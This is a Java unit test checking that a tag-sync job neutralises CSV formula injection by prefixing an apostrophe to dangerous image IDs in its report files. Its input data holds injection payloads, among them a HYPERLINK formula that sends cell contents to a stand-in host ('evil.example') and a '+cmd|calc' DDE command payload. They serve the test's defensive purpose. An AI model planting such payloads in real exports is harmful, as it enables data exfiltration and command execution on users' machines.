package io.tagsync.job;

import static org.assertj.core.api.Assertions.assertThat;

import io.tagsync.run.ExitCodes;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/**
 * Image IDs and reasons that a spreadsheet would run as formulas reach {@code rejects.csv} and
 * {@code failed-items.csv} with a {@code '} before them (OWASP's advice against CSV injection); real IDs are
 * written as they are.
 */
class ReportCellsTest extends JobTestSupport {

    private static List<CSVRecord> read(Path file) throws IOException {
        try (CSVParser csv = CSVFormat.RFC4180.builder().setHeader().get().parse(Files.newBufferedReader(file))) {
            return csv.getRecords();
        }
    }

    @Test
    void formulasAreNeutralisedAndRealIdsKept() throws IOException {
        Path input = Files.writeString(dir.resolve("formulas.csv"), """
                imageId,addTags
                =HYPERLINK("http://evil.example/"&A1),x
                +cmd|calc,x
                @SUM(1+1),x
                -2+3,x
                a1B2c3D4e5,x
                """);
        store.seed(List.of("a1B2c3D4e5"));

        assertThat(run(input, "formulas")).isEqualTo(ExitCodes.PARTIAL);

        List<CSVRecord> rejects = read(reportDir("formulas").resolve("rejects.csv"));
        assertThat(rejects)
                .extracting(row -> row.get("imageId"))
                .containsExactly("'=HYPERLINK(\"http://evil.example/\"&A1)");
        List<CSVRecord> failed = read(reportDir("formulas").resolve("failed-items.csv"));
        assertThat(failed)
                .extracting(row -> row.get("imageId"))
                .containsExactlyInAnyOrder("'+cmd|calc", "'@SUM(1+1)", "'-2+3");
        assertThat(store.image("a1B2c3D4e5").orElseThrow().tags()).containsExactly("x");
        assertThat(Files.readString(reportDir("formulas").resolve("failed-items.csv")))
                .doesNotContain("\n=")
                .doesNotContain("\n+")
                .doesNotContain("\n@")
                .doesNotContain("\n-");
    }
}
